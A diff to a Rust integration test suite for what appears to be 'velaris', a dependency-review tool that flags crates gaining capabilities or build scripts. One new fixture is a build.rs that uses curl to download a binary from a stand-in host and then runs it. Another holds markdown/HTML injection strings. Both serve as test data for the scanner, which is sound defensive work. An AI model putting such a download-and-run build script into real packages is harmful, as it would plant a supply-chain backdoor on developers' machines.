@@ -10,6 +10,8 @@ mod github_double;
 mod markdown_check;
 #[path = "support/registry_double.rs"]
 mod registry_double;
+#[path = "support/schema.rs"]
+mod schema;
 
 use std::collections::HashMap;
 use std::path::{Path, PathBuf};
@@ -25,7 +27,7 @@ const PR: u64 = 7;
 
 fn netlib(version: &str) -> Vec<u8> {
     let lib = match version {
-        "1.0.0" => "pub fn get() {\n    let _ = std::net::TcpStream::connect(\"example.com:80\");\n}\n".to_string(),
+        "1.0.0" | "1.4.0" => "pub fn get() {\n    let _ = std::net::TcpStream::connect(\"example.com:80\");\n}\n".to_string(),
         // A large refactor: a diff far bigger than a comment.
         "1.2.0" => {
             let mut t = "pub fn get() {\n    let _ = std::net::TcpStream::connect(\"example.com:80\");\n}\n".to_string();
@@ -43,8 +45,14 @@ fn netlib(version: &str) -> Vec<u8> {
         // A release whose file names and contents try to become markup in a review.
         files.push(("src/@octocat #9 <b>www.evil.example</b> [x](https:|evil).rs", HOSTILE_FILE));
     }
+    if version == "1.4.0" {
+        // A patch that adds a build script which downloads and runs a binary.
+        files.push(("build.rs", BUILD_RS));
+    }
     archives::crate_bytes("netlib", version, &files)
 }
+
+const BUILD_RS: &str = "fn main() {\n    let _ = std::process::Command::new(\"curl\").args([\"-sSfo\", \"helper\", \"https://helper.example/x\"]).status();\n    let _ = std::process::Command::new(\"./helper\").status();\n}\n";
 
 const HOSTILE_FILE: &str = "</details>\n```\n@octocat #9 <img src=x> ![i](https://evil.example/i)\n~~~\n</summary></details><details open>\n";
 
@@ -130,6 +138,7 @@ impl World {
         reg.add_crate("netlib", "1.1.0", &netlib("1.1.0"));
         reg.add_crate("netlib", "1.2.0", &netlib("1.2.0"));
         reg.add_crate("netlib", "1.3.0", &netlib("1.3.0"));
+        reg.add_crate("netlib", "1.4.0", &netlib("1.4.0"));
         let home = cargo_home_replacing_crates_io(&reg.index_url());
         let mut w = World {
             _reg: reg,
@@ -346,8 +355,27 @@ fn first_run_creates_the_comment_the_second_writes_nothing_a_change_updates_it()
     assert!(verdict.contains("program `app` uses `process.spawn`"), "{verdict}");
     assert!(body.contains("at `src/main.rs:3:13`"), "evidence with file:line: {body}");
     assert!(body.contains("`let _ = std::process::Command::new(\"sh\").status();`"), "source line: {body}");
-    assert!(body.contains("| netlib | upgraded | 1\\.0\\.0 → 1\\.1\\.0 |") || body.contains("netlib"), "dependency table: {body}");
-    assert!(body.contains("Dependency changes"), "{body}");
+    // The dependency review as deps-diff renders it: the headline with what was analysed and
+    // verified, the risk-ordered table, the capability change with its evidence and hunk, what
+    // it does to the program; the diffs last.
+    let review = body.find("### Dependency review `").unwrap_or_else(|| panic!("{body}"));
+    assert!(body.find("#### Widened grants").unwrap() < review, "the verdict and the widened grants come first: {body}");
+    assert!(body.contains("**1 package changed\\: 1 gains capabilities; sha256 verified 2 of 2; audit cost 3 lines**"), "headline: {body}");
+    assert!(body.contains("Capabilities: 1 of 1 changed packages analysed for x86\\_64-unknown-linux-gnu."), "coverage: {body}");
+    let rows = markdown_check::table_rows(body);
+    let row = rows.iter().find(|r| r.get(1).map(String::as_str) == Some("netlib")).unwrap_or_else(|| panic!("no netlib row: {rows:?}"));
+    assert_eq!(row[0], "capabilities", "risk first: {row:?}");
+    assert_eq!(row[2], "1.0.0 → 1.1.0");
+    assert!(row[3].starts_with("upgraded") && row[4] == "direct (app)" && row[6] == "+process.spawn" && row[7] == "✅ sha256", "{row:?}");
+    let caps = body.find("#### Capability changes").unwrap_or_else(|| panic!("{body}"));
+    assert!(body[caps..].contains("- 🔴 gains `process.spawn`\n  - `src/lib.rs:3:13` std\\:\\:process\\:\\:Command\\:\\:new"), "the gained capability with its finding: {body}");
+    assert!(body[caps..].contains("+    let _ = std::process::Command::new(\"curl\").status();"), "and its hunk: {body}");
+    assert!(body.contains("- **app**: gains `process.spawn`"), "per program: {body}");
+    assert!(body.find("<details><summary>netlib 1.0.0 → 1.1.0</summary>").unwrap() > caps, "file lists and diffs last: {body}");
+    // Under the verdict: the run fails on `widened`, detailed in its own section.
+    let fails = body.find("\n🚫 **Fails** `fail-on`: `widened`.\n\n<sub>").unwrap_or_else(|| panic!("{body}"));
+    assert!(fails > body.find("**Widened**").unwrap() && fails < body.find("#### Widened grants").unwrap(), "{body}");
+    assert_eq!(body.matches("🚫").count(), 1, "{body}");
     assert!(body.contains(&format!("[run summary]({}/o/r/actions/runs/4242)", w.gh.server_url())), "{body}");
     // The comment, the summary, the outputs and the report agree.
     assert!(r.summary.contains("**Widened**"), "{}", r.summary);
@@ -360,7 +388,14 @@ fn first_run_creates_the_comment_the_second_writes_nothing_a_change_updates_it()
     assert_eq!(report["exit_code"], 1);
     assert_eq!(report["workspaces"][0]["status"], "widened");
     assert_eq!(report["workspaces"][0]["check"]["schema"], "velaris/check/v1");
+    assert_eq!(report["workspaces"][0]["deps_diff"]["schema"], "velaris/deps-diff/v2");
+    schema::assert_valid_v2(&report["workspaces"][0]["deps_diff"]);
     assert_eq!(report["workspaces"][0]["deps_diff"]["packages"][0]["name"], "netlib");
+    assert_eq!(report["workspaces"][0]["deps_diff"]["packages"][0]["capabilities"]["added"][0]["capability"], "process.spawn");
+    assert_eq!(report["failed"], serde_json::json!(["widened"]));
+    assert_eq!(report["workspaces"][0]["failed"][0]["condition"], "widened");
+    assert_eq!(report["workspaces"][0]["failed"][0]["what"][0], "program app: process.spawn");
+    assert!(report.get("not_evaluated").is_none(), "every condition is decided");
     assert_eq!(report["workspaces"][0]["comment"]["status"], "created");
     assert_eq!(r.outputs["report"], w.tmp.path().join("velaris-ratchet/report.json").display().to_string());
     // An error annotation on the source line of the program's own finding, and one on
@@ -398,14 +433,18 @@ fn first_run_creates_the_comment_the_second_writes_nothing_a_change_updates_it()
     let body = &c2[0].body;
     assert!(body.contains("**Holds**"), "{body}");
     let adds = body.find("Grants this change adds to").unwrap_or_else(|| panic!("{body}"));
-    assert!(adds < body.find("Dependency changes").unwrap(), "additions come before the dependency review: {body}");
+    assert!(adds < body.find("### Dependency review").unwrap(), "additions come before the dependency review: {body}");
     assert!(body.contains("| program `app` | `process.spawn` |"), "{body}");
     assert!(body.contains("| crate `netlib` | `process.spawn` |"), "{body}");
 
     // A repository that wants baseline changes approved separately fails on them.
     let strict = w.run("pull_request", "pull_request.json", &["--fail-on", "widened,baseline-widened"]);
     assert_eq!(strict.code, 1, "{}", show(&strict));
-    assert_eq!(strict.report.as_ref().unwrap()["failed"], serde_json::json!(["baseline-widened"]));
+    let rep = strict.report.as_ref().unwrap();
+    assert_eq!(rep["failed"], serde_json::json!(["baseline-widened"]));
+    assert_eq!(rep["workspaces"][0]["failed"][0]["what"], serde_json::json!(["program app: process.spawn", "crate app (new): process.spawn", "crate netlib: process.spawn"]));
+    let body = &ours(&w)[0].body;
+    assert!(body.contains("🚫 **Fails** `fail-on`: `baseline-widened`."), "{body}");
 }
 
 #[test]
@@ -655,7 +694,8 @@ fn merge_group_reviews_without_commenting() {
     let r = w.run("merge_group", "merge_group.json", &[]);
     assert_eq!(r.code, 1, "{}", show(&r));
     assert!(w.gh.requests().is_empty(), "{:#?}", w.gh.requests());
-    assert!(r.summary.contains("**Widened**") && r.summary.contains("Dependency changes"), "{}", r.summary);
+    assert!(r.summary.contains("**Widened**") && r.summary.contains("### Dependency review `"), "{}", r.summary);
+    assert!(r.summary.contains("- 🔴 gains `process.spawn`"), "{}", r.summary);
     assert_eq!(r.report.as_ref().unwrap()["workspaces"][0]["comment"]["status"], "skipped");
 }
 
@@ -853,7 +893,7 @@ fn each_workspace_gets_its_own_comment() {
 }
 
 #[test]
-fn fail_on_is_parsed_in_one_place_and_says_what_it_cannot_decide() {
+fn fail_on_is_parsed_in_one_place_and_decided_as_deps_diff_decides_it() {
     let mut w = World::new();
     w.widening_pr();
     w.check_out(Checkout::Merge);
@@ -863,10 +903,84 @@ fn fail_on_is_parsed_in_one_place_and_says_what_it_cannot_decide() {
     let bad = w.run("pull_request", "pull_request.json", &["--fail-on", "sometimes"]);
     assert_eq!(bad.code, 2);
     assert!(bad.stderr.contains("baseline-widened"), "{}", bad.stderr);
-    let later = w.run("pull_request", "pull_request.json", &["--fail-on", "build-script", "--comment", "false"]);
-    assert_eq!(later.code, 0, "{}", show(&later));
-    assert!(later.stdout.lines().any(|l| l.starts_with("::warning") && l.contains("build-script")), "{}", later.stdout);
-    assert_eq!(later.report.as_ref().unwrap()["not_evaluated"], serde_json::json!(["build-script"]));
+    // Every dependency condition is decided: those the change does not meet pass, with no
+    // warning that anything was left undecided.
+    let quiet = w.run("pull_request", "pull_request.json", &["--fail-on", "build-script,proc-macro,native,yanked,unverifiable,unknown", "--comment", "false"]);
+    assert_eq!(quiet.code, 0, "{}", show(&quiet));
+    assert!(!quiet.stdout.lines().any(|l| l.starts_with("::warning")), "{}", quiet.stdout);
+    assert_eq!(quiet.report.as_ref().unwrap()["failed"], serde_json::json!([]));
+    // netlib 1.1.0 gains process.spawn: `new-capability` holds, named as deps-diff names it.
+    let gained = w.run("pull_request", "pull_request.json", &["--fail-on", "new-capability", "--comment", "false"]);
+    assert_eq!(gained.code, 1, "{}", show(&gained));
+    let rep = gained.report.as_ref().unwrap();
+    assert_eq!(rep["failed"], serde_json::json!(["new-capability"]));
+    let what = rep["workspaces"][0]["failed"][0]["what"].clone();
+    assert_eq!(what, serde_json::json!(["netlib 1.0.0 -> 1.1.0: process.spawn"]));
+    assert!(gained.summary.contains("🚫 **Fails** `fail-on`: `new-capability`."), "{}", gained.summary);
+    assert!(gained.summary.contains("- `new-capability`: netlib 1.0.0 -&gt; 1.1.0\\: process.spawn"), "{}", gained.summary);
+    // The same list given to `velaris deps-diff` over the same range trips the same condition
+    // on the same package.
+    let range = format!("{}..{}", w.base, w.merge.as_deref().unwrap());
+    let o = Command::new(env!("CARGO_BIN_EXE_velaris"))
+        .args(["deps-diff", &range, "--fail-on", "new-capability", "--format", "json"])
+        .current_dir(w.checkout.path())
+        .env("CARGO_HOME", w.home.path())
+        .env("VELARIS_CACHE_DIR", w.cache.path())
+        .env("NO_COLOR", "1")
+        .env("HOME", w.tmp.path())
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .output()
+        .unwrap();
+    assert_eq!(o.status.code(), Some(1), "{}", String::from_utf8_lossy(&o.stderr));
+    let stderr = String::from_utf8_lossy(&o.stderr);
+    assert!(stderr.contains(&format!("deps-diff: --fail-on new-capability:\n  {}\n", what[0].as_str().unwrap())), "{stderr}");
+}
+
+#[test]
+fn a_dependency_that_gains_a_build_script_fails_fail_on_build_script_and_is_still_commented() {
+    let mut w = World::new();
+    w.commit("bump netlib to a patch with a build script", |o| write(o, "Cargo.lock", &lockfile("1.4.0", &netlib("1.4.0"), &["app"])));
+    w.check_out(Checkout::Merge);
+    let r = w.run("pull_request", "pull_request.json", &["--fail-on", "build-script"]);
+    assert_eq!(r.code, 1, "{}", show(&r));
+    let rep = r.report.as_ref().unwrap();
+    assert_eq!(rep["exit_code"], 1);
+    assert_eq!(rep["failed"], serde_json::json!(["build-script"]));
+    let what = rep["workspaces"][0]["failed"][0]["what"].as_array().unwrap();
+    assert_eq!(what.len(), 1, "{what:?}");
+    assert!(what[0].as_str().unwrap().starts_with("netlib 1.0.0 -> 1.4.0: "), "{what:?}");
+    let flags: Vec<&str> = rep["workspaces"][0]["deps_diff"]["packages"][0]["flags"].as_array().unwrap().iter().map(|f| f["code"].as_str().unwrap()).collect();
+    assert!(flags.contains(&"build-script") && flags.contains(&"build-spawn"), "{flags:?}");
+    schema::assert_valid_v2(&rep["workspaces"][0]["deps_diff"]);
+
+    // The comment is posted all the same, and says why the run fails before anything else.
+    let c = ours(&w);
+    assert_eq!(c.len(), 1, "{:#?}", w.gh.comments(PR));
+    let body = &c[0].body;
+    let fails = body.find("🚫 **Fails** `fail-on`: `build-script`.").unwrap_or_else(|| panic!("{body}"));
+    assert!(body[fails..].starts_with("🚫 **Fails** `fail-on`: `build-script`.\n\n- `build-script`: netlib 1.0.0 -&gt; 1.4.0\\: "), "{body}");
+    assert!(fails < body.find("### Dependency review").unwrap(), "{body}");
+    let rows = markdown_check::table_rows(body);
+    assert!(rows.iter().any(|r| r[1] == "netlib" && r[0] == "capabilities" && r[6].contains("+process.spawn (build)")), "{rows:?}");
+    let flags_at = body.find("#### Flags").unwrap_or_else(|| panic!("{body}"));
+    assert!(body[flags_at..].contains("- **netlib** 1.0.0 → 1.4.0: `build-spawn` now starts processes at build time"), "the flag with its evidence: {body}");
+    assert!(body[flags_at..].contains("`build-script`"), "{body}");
+    assert!(body.contains("- 🔴 gains `process.spawn` at build time\n  - `build.rs:2:13`"), "the capability change with its evidence: {body}");
+    let links = [format!("{}/o/r/", w.gh.server_url()), "https://github.com/velaris/ratchet/blob/main/docs/caveats.md".to_string()];
+    markdown_check::assert_inert(body, &links, &[]);
+    markdown_check::assert_inert(&r.summary, &links, &[]);
+    assert_eq!(r.summary.matches("🚫 **Fails** `fail-on`: `build-script`.").count(), 1, "{}", r.summary);
+
+    // A warning on netlib's Cargo.lock entry names the review's flags.
+    let lock = std::fs::read_to_string(w.checkout.path().join("Cargo.lock")).unwrap();
+    let line = lock.lines().position(|l| l == "name = \"netlib\"").unwrap() + 1;
+    let warning = r.stdout.lines().find(|l| l.starts_with(&format!("::warning file=Cargo.lock,line={line},"))).unwrap_or_else(|| panic!("{}", r.stdout));
+    assert!(warning.contains("build-spawn: now starts processes at build time") && warning.contains("build-script: "), "{warning}");
+
+    // Decided, not assumed: the conditions this change does not meet pass.
+    let other = w.run("pull_request", "pull_request.json", &["--fail-on", "proc-macro,native,yanked", "--comment", "false"]);
+    assert_eq!(other.code, 0, "{}", show(&other));
+    assert_eq!(other.report.as_ref().unwrap()["failed"], serde_json::json!([]));
 }
 
 #[test]
@@ -904,7 +1018,14 @@ fn a_changed_lockfile_without_a_baseline_gets_the_dependency_review_only() {
     assert_eq!(ws[1]["status"], "no-baseline");
     assert_eq!(ws[1]["deps_diff"]["packages"][0]["change"], "added");
     let tool = ours(&w).into_iter().find(|c| c.body.starts_with("<!-- velaris-ratchet:v1 workspace=tools -->")).unwrap();
-    assert!(tool.body.contains("**No baseline**") && tool.body.contains("Dependency changes"), "{}", tool.body);
+    assert!(tool.body.contains("**No baseline**"), "{}", tool.body);
+    // The workspace is new: its head is analysed as a workspace, against nothing at base.
+    assert!(tool.body.contains("### Dependency review `") && tool.body.contains("**2 packages changed\\: 1 gains capabilities, 1 routine; sha256 verified 1 of 1;"), "{}", tool.body);
+    assert!(tool.body.contains("Capabilities: 2 of 2 changed packages analysed"), "{}", tool.body);
+    assert!(!tool.body.contains("Graph unknown"), "{}", tool.body);
+    let rows = markdown_check::table_rows(&tool.body);
+    assert!(rows.iter().any(|r| r[1] == "netlib" && r[2] == "1.1.0" && r[3] == "added" && r[4] == "direct (tool)" && r[6].contains("+net.connect")), "{rows:?}");
+    assert!(tool.body.contains("- 🔴 has `process.spawn`"), "an added package reports its whole surface: {}", tool.body);
 }
 
 #[test]
@@ -943,9 +1064,12 @@ fn diffs_are_dropped_before_the_table_and_the_file_list() {
     assert_eq!(r.code, 0, "{}", show(&r));
     let body = &ours(&w)[0].body;
     assert!(body.chars().count() < 65_536);
-    assert!(body.contains("| netlib | upgraded |"), "the table: {body}");
-    assert!(body.contains("<details><summary>netlib"), "the file list stays: {body}");
+    assert!(body.contains("**1 package changed\\: 1 routine;"), "the headline: {body}");
+    let rows = markdown_check::table_rows(body);
+    assert!(rows.iter().any(|r| r[1] == "netlib" && r[2] == "1.0.0 → 1.2.0" && r[3].starts_with("upgraded")), "the table: {rows:?}");
+    assert!(body.contains("<details><summary>netlib 1.0.0 → 1.2.0</summary>") && body.contains("| M | src/lib.rs | 4000 | 0 |"), "the file list stays: {body}");
     assert!(!body.contains("```diff"), "the diff goes: {body}");
+    assert!(body.contains("_Diffs of 1 package left out to stay within"), "and says so: {body}");
     assert!(r.summary.contains("```diff") && r.summary.contains("+pub fn scale_3999"), "the summary has room for it");
 }
 
